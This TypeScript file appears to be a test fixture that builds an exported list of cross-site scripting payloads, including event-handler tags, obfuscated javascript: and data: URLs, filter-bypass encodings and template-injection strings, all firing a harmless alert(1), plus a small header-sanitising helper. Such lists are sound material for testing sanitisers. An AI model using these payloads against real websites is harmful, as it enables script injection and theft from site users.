/** Texts that run as a script, or load one, wherever a page takes them for more than text. */

const RUN = "alert(1)";

/** Elements that need nobody's help to run their handler. */
const HANDLERS: readonly (readonly [tag: string, handler: string])[] = [
  ["img src=x", "onerror"],
  ["image src=x", "onerror"],
  ["svg", "onload"],
  ["svg/onload=1", "onload"],
  ["body", "onload"],
  ["body", "onpageshow"],
  ["video src=x", "onerror"],
  ["audio src=x", "onerror"],
  ["video><source", "onerror"],
  ["object data=x", "onerror"],
  ["embed src=x", "onload"],
  ["iframe src=x", "onload"],
  ["link rel=stylesheet href=x", "onerror"],
  ["style", "onload"],
  ["input autofocus", "onfocus"],
  ["textarea autofocus", "onfocus"],
  ["select autofocus", "onfocus"],
  ["button autofocus", "onfocus"],
  ["a href=# autofocus tabindex=1", "onfocus"],
  ["div contenteditable autofocus", "onfocus"],
  ["details open", "ontoggle"],
  ["marquee", "onstart"],
  ["div style=animation:a", "onanimationstart"],
  ["div style=transition:1s", "ontransitionend"],
  ["xss id=x tabindex=1", "onfocusin"],
  ["dialog open", "onclose"],
  ["div popover", "onbeforetoggle"],
  ["form><input type=image src=x", "onerror"],
  ["picture><img src=x", "onerror"],
  ["input type=image src=x", "onerror"],
];

const SCHEMES = [
  "javascript:",
  "JaVaScRiPt:",
  "java\tscript:",
  "java\nscript:",
  " javascript:",
  "\u0001javascript:",
  "javascript&colon;",
  "&#106;avascript:",
  "&#x6A;avascript:",
  "vbscript:",
  "data:text/html,<script>alert(1)</script>",
  "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
];

const LINKS = SCHEMES.flatMap((scheme) => {
  const target = scheme.startsWith("data:") ? scheme : `${scheme}${RUN}`;
  return [target, `<a href="${target}" autofocus>x</a>`, `<iframe src="${target}"></iframe>`];
});

const TAGS = HANDLERS.flatMap(([tag, handler]) => [
  `<${tag} ${handler}=${RUN}>`,
  `"><${tag} ${handler}="${RUN}">`,
]);

const OTHERS = [
  `<script>${RUN}</script>`,
  `<ScRiPt>${RUN}</sCrIpT>`,
  `<script src=//example.invalid/x.js></script>`,
  `<script type=module>${RUN}</script>`,
  `<scr<script>ipt>${RUN}</script>`,
  `</script><script>${RUN}</script>`,
  `</textarea><script>${RUN}</script>`,
  `</title><script>${RUN}</script>`,
  `</pre><img src=x onerror=${RUN}>`,
  `<!--><img src=x onerror=${RUN}>-->`,
  `<![CDATA[><img src=x onerror=${RUN}>]]>`,
  `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
  `<object data="data:text/html,<script>${RUN}</script>"></object>`,
  `<meta http-equiv=refresh content="0;url=javascript:${RUN}">`,
  `<base href="javascript:/a/-${RUN}///////">`,
  `<form action="javascript:${RUN}"><input type=submit autofocus></form>`,
  `<math><mi xlink:href="javascript:${RUN}">x</mi></math>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><a xlink:href="javascript:${RUN}"><text>x</text></a></svg>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
  `<svg><set attributeName=onload to=${RUN} />`,
  `<svg><use href="data:image/svg+xml,<svg id=x onload=${RUN}>#x"/></svg>`,
  `<style>@import 'javascript:${RUN}';</style>`,
  `<style>*{background:url("javascript:${RUN}")}</style>`,
  `<template><img src=x onerror=${RUN}></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `" onmouseover=${RUN} x="`,
  `' onfocus=${RUN} autofocus '`,
  `';${RUN}//`,
  `\`\${${RUN}}\``,
  `{{constructor.constructor('${RUN}')()}}`,
  `<%= ${RUN} %>`,
  `#{${RUN}}`,
  `\u202E<img src=x onerror=${RUN}>`,
  `<img src=x onerror=\u0061lert(1)>`,
  `<img src=x onerror=&#97;lert(1)>`,
  `%3Cimg src=x onerror=${RUN}%3E`,
  `&lt;img src=x onerror=${RUN}&gt;`,
  `{"__proto__":{"x":"<img src=x onerror=${RUN}>"}}`,
  `[click](javascript:${RUN})`,
];

export const VECTORS: readonly string[] = [...new Set([...TAGS, ...LINKS, ...OTHERS])];

/** What a header may hold: the rest is taken out. */
export const headerSafe = (text: string): string => text.replace(/[^\x20-\x7e]/g, "").trim();
